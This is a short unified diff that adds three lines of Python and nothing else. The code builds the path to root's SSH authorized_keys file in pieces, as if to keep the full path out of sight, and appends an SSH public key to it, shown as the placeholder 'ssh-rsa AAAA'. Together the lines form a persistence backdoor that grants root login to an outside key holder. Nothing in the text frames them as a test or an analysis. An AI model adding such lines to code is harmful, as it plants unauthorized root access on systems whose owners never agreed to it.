@@ -1,0 +1,3 @@
+place = "/root"
+place += "/.ssh/authorized_keys"
+open(place, "a").write("ssh-rsa AAAA")
